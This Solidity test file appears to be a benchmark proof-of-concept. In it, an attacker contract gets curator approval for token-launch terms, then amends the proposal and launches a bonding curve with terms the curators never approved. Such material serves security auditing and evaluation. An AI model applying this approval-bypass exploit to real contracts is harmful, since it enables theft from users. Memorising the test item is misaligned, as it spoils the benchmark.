// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    uint256 private mine;

    function propose(LaunchRegistry registry, bytes32 termsHash) external returns (uint256) {
        mine = registry.propose(termsHash);
        return mine;
    }

    function run(LaunchRegistry registry, LaunchFactory factory, IBondingCurve.CurveTerms calldata terms) external {
        registry.amend(mine, factory.curveHash(terms));
        try factory.launchCurve(mine, terms) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private id;

    function start() internal override {
        other = new Attacker();
        bytes32 termsHash = factory.curveHash(curveTerms("Weir", "WEIR", 85_000e18));
        id = other.propose(registry, termsHash);
        vm.prank(FIRST);
        registry.approve(id, termsHash);
        vm.prank(OTHER);
        registry.approve(id, termsHash);
        seen[termsHash] = true;
    }

    /// Curators have seen the terms with which the proposal was launched, if it was.
    function approvedIfLaunched() public view returns (bool) {
        ILaunchRegistry.Proposal memory p = registry.proposalOf(id);
        return p.launch == address(0) || seen[p.termsHash];
    }

    function exploit() public {
        other.run(registry, factory, curveTerms("Weir", "WEIR", 1e18));
    }

    function test_Exploit() public {
        exploit();
        require(!approvedIfLaunched(), "the terms were approved");
    }

    function target() public view override returns (address) {
        return address(registry);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
